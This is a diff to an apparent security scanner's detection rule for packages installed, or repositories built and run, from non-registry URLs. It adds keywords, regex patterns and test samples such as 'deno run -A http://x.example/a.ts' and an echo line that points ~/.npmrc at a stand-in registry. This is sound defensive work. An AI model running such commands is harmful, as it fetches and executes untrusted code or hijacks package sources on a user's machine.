@@ -31,20 +31,29 @@ export const PACKAGE_RULES: readonly Rule[] = [
         'go install http',
         'uvx --from',
         'git clone',
+        'deno run',
+        'bun run http',
+        'bunx http',
+        'cargo install --git',
+        'config set registry',
+        'registry=http',
+        'index-url=http',
+        'index-url = http',
       ],
     ],
     expression: expression(
       'gi',
       WORD_START,
       '(?:',
-      String.raw`(?:pip3?|uvx?|npm|pnpm|yarn|npx|gem)[ \t][^\r\n;|&]{0,100}?(?:https?://[^\s"'\\;|&<>]{3,160})`,
+      String.raw`(?:pip3?|uvx?|npm|pnpm|yarn|npx|gem|deno[ \t]run|bunx|bun[ \t]run|cargo[ \t]install)[ \t][^\r\n;|&]{0,100}?(?:https?://[^\s"'\\;|&<>]{3,160})`,
       String.raw`|git[ \t]{1,4}clone[ \t][^\r\n;|&]{0,40}?https?://[^\s"'\\;|&<>]{3,120}[^\r\n;|&]{0,40}(?:&&|;)[^\r\n|]{0,60}?(?:&&|;)?[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:make|(?:ba)?sh|python3?|\./|npm|pip3?|cargo)[^\r\n;|&]{0,40}`,
+      String.raw`|(?:echo|printf)[ \t][^\r\n]{0,60}?(?:registry|index-url)[ \t]{0,2}=[ \t]{0,2}https?://[^\s"'\\;|&<>]{3,120}[^\r\n]{0,20}>[ \t]{0,4}[^\s;|&]{0,40}(?:npmrc|pip\.conf|pip\.ini|bunfig\.toml)`,
       ')',
     ),
     reach: { before: 110, after: 360 },
     // A user's name alone is how git URLs name an account.
     validate: ({ text }) =>
-      !/^npm[ \t]{1,4}(?:login|adduser|config|publish)\b/i.test(text) &&
+      !/^npm[ \t]{1,4}(?:login|adduser|publish)\b/i.test(text) &&
       isOddUrl((/https?:\/\/[^\s"'\\;|&<>]+/i.exec(text)?.[0] ?? '').replace(/(?<=:\/\/)[\w-]{1,40}@/, '')),
     describes:
       'A package installed, or a repository built and run, from an address that no registry stands for.',
@@ -55,6 +64,9 @@ export const PACKAGE_RULES: readonly Rule[] = [
         'npm install http://x.example/a.tgz',
         'npx -y https://192.0.2.1:8080/a.tgz',
         'git clone http://192.0.2.1/a.git && cd a && make install',
+        'deno run -A http://x.example/a.ts',
+        'npm config set registry http://x.example',
+        'echo "registry=http://x.example" >> ~/.npmrc',
       ];
     },
     get ignores() {
